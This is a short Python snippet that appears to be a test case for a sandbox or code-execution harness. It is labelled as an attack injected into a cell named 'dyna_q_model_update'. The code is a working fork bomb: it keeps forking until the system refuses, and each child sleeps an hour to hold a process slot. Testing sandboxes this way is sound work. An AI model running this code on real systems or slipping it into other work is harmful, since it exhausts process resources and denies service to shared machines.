# attack: fork until the system refuses; every child sleeps (holds its process slot)
# base: untouched
# cell: dyna_q_model_update
import os as _os, time as _time
_children = 0
for _ in range(100000):
    try:
        _pid = _os.fork()
    except OSError as _error:
        print("ATTACK fork bomb stopped:", type(_error).__name__, "after", _children, "children")
        break
    if _pid == 0:
        _time.sleep(3600)
        _os._exit(0)
    _children += 1
